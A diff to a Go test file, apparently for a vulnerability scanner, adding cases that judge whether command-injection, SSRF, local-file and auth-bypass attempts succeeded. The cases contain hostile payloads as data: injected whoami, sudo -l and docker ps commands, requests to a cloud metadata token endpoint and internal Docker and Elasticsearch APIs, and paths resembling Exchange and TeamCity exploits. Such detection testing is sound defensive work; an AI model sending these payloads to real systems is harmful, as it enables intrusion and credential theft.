@@ -54,6 +54,37 @@ func TestEffects(t *testing.T) {
 		"waited, Java":               {attempt{kind: "injection-java", payload: "T(Thread).sleep(7000L)", took: "07.010"}, Success, "7.01 s"},
 		"did not wait, milliseconds": {attempt{kind: "injection-generic", payload: "sleep(5000)||true", took: "00.050"}, Unknown, "asks for 5 s"},
 
+		"account, in an error":  {attempt{kind: "rce", payload: "`whoami`", mime: text, body: "ping: www-data: Name or service not known\n"}, Success, "whoami"},
+		"account, not resolved": {attempt{kind: "rce", payload: "$(whoami)", body: "<pre>** server can't find nginx: NXDOMAIN</pre>"}, Success, "whoami"},
+		"account, as an owner":  {attempt{kind: "rce", payload: "`whoami`", mime: text, body: "file: a.txt, owner: root"}, Unknown, ""},
+		"host, in an error":     {attempt{kind: "rce", payload: "`whoami`", mime: text, body: "ping: `whoami`: Name or service not known"}, Unknown, ""},
+		"account, all of it":    {attempt{kind: "rce", payload: "|whoami /all", body: "<pre>\nUSER INFORMATION\n----------------\n\nUser Name  SID\n</pre>"}, Success, "whoami"},
+		"privileges":            {attempt{kind: "rce", payload: "& whoami /priv", mime: text, body: "PRIVILEGES INFORMATION\r\n----\r\nPrivilege Name                Description       State\r\n"}, Success, "whoami"},
+		"processes of Windows":  {attempt{kind: "rce", payload: "&tasklist", mime: text, body: "\r\nImage Name                     PID Session Name\r\n"}, Success, "processes"},
+		"folder, by PowerShell": {attempt{kind: "rce", payload: "; powershell gci", mime: text, body: "Mode                 LastWriteTime         Length Name\r\n----"}, Success, "dir"},
+		"registry":              {attempt{kind: "rce", payload: "& reg query HKLM\\Software", mime: text, body: "\r\nHKEY_LOCAL_MACHINE\\Software\\Classes\r\n"}, Success, "registry"},
+		"file systems":          {attempt{kind: "rce", payload: ";df -h", body: "<pre>Filesystem      Size  Used Avail Use% Mounted on\n/dev/sda1</pre>"}, Success, "file systems"},
+		"mounted":               {attempt{kind: "rce", payload: ";mount", mime: text, body: "/dev/sda1 on / type ext4 (rw,relatime)\n"}, Success, "file systems"},
+		"load":                  {attempt{kind: "rce", payload: ";w", mime: text, body: " 10:11:12 up 3 days,  1 user,  load average: 0.08, 0.03, 0.05\n"}, Success, "load"},
+		"load, not asked for":   {attempt{kind: "rce", payload: ";id", mime: text, body: " 10:11:12 up 3 days,  1 user,  load average: 0.08, 0.03, 0.05\n"}, Unknown, ""},
+		"memory":                {attempt{kind: "rce", payload: "|free -k", mime: text, body: "              total        used\nMem:        8039416     1203404     512340\n"}, Success, "memory"},
+		"routes":                {attempt{kind: "rce", payload: ";ip route", mime: text, body: "default via 10.0.0.1 dev eth0 proto dhcp\n"}, Success, "routes"},
+		"sudo":                  {attempt{kind: "rce", payload: ";sudo -l", mime: text, body: "User www-data may run the following commands on web:\n"}, Success, "sudo"},
+		"names, by find":        {attempt{kind: "rce", payload: ";find / -maxdepth 1", mime: text, body: "/\n/bin\n/etc\n/home\n"}, Success, "names of files"},
+		"containers":            {attempt{kind: "rce", payload: ";docker ps", mime: text, body: "CONTAINER ID   IMAGE     COMMAND\n"}, Success, "containers"},
+
+		// Services inside.
+		"indices":              {attempt{kind: "ssrf", payload: "http://127.0.0.1:9200/_cat/indices", mime: text, body: "green open customers x1YpQmZ2S9a 1 0 48211 0 31mb 31mb\n"}, Success, "inside"},
+		"health of a cluster":  {attempt{kind: "ssrf", payload: "http://10.0.0.4:9200/_cluster/health", mime: json, body: `{"cluster_name":"logs","status":"green","timed_out":false}`}, Success, "inside"},
+		"containers of a host": {attempt{kind: "ssrf", payload: "http://172.17.0.1:2375/containers/json", mime: json, body: `[{"Id":"8dfafdbc3a40","Names":["/web"],"Image":"nginx"}]`}, Success, "inside"},
+		"a list of colours":    {attempt{kind: "ssrf", payload: "http://127.0.0.1/", mime: text, body: "green open door\n"}, Unknown, ""},
+		"token of a machine":   {attempt{kind: "ssrf", payload: "http://169.254.169.254/metadata/identity/oauth2/token", mime: json, body: `{"access_token":"eyJ0eXAiOiJKV1Qi","expires_in":"86399"}`}, Success, "metadata"},
+
+		// Exploits.
+		"Exchange, as the system": {attempt{kind: "rce", payload: "/autodiscover/autodiscover.json?@x.test/mapi/nspi/", body: `<p>Exchange MAPI/HTTP Connectivity Endpoint</p><p><b>User: NT AUTHORITY\SYSTEM</b></p>`}, Success, "behind the login"},
+		"TeamCity":                {attempt{kind: "generic", payload: "/hax?jsp=/app/rest/users;.jsp", mime: "application/xml", body: `<?xml version="1.0"?><user username="a" id="11"/>`}, Success, "behind the login"},
+		"TeamCity, its login":     {attempt{kind: "generic", payload: "/hax?jsp=/app/rest/users;.jsp", body: `<html><title>Log in to TeamCity</title>`}, Unknown, ""},
+
 		// Files.
 		"group":                    {attempt{kind: "lfi", payload: "../../etc/group", mime: text, body: "root:x:0:\nsudo:x:27:ann\n"}, Success, "/etc/group"},
 		"passwd, in base64":        {attempt{kind: "lfi", payload: "/etc/passwd", mime: json, body: `{"content":"cm9vdDp4OjA6MDpyb290Oi9yb290"}`}, Success, "base64"},
